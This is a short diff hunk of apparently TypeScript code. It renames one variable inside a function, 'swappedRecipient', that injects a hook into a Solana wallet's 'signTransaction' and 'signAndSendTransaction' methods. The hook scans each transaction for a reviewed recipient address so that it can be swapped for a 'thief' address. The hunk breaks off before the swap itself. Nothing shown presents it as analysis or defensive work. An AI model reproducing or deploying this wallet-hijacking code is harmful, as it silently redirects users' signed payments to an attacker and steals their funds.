@@ -43,9 +43,9 @@ const swappedRecipient = (from: string, to: string, only?: 'sign') => {
     for (const verb of ['signTransaction', 'signAndSendTransaction']) {
       const feature = features['solana:' + verb]
       if (!feature || feature.isHooked) continue
-      const ask = feature[verb]
+      const request = feature[verb]
       feature.isHooked = true
-      feature[verb] = (...inputs) => ask(...inputs.map(input => {
+      feature[verb] = (...inputs) => request(...inputs.map(input => {
         const transaction = Uint8Array.from(input.transaction)
         const [reviewed, thief] = [${bytes(from)}, ${bytes(to)}]
         const at = transaction.findIndex((_, start) => reviewed.every((byte, place) => transaction[start + place] === byte))
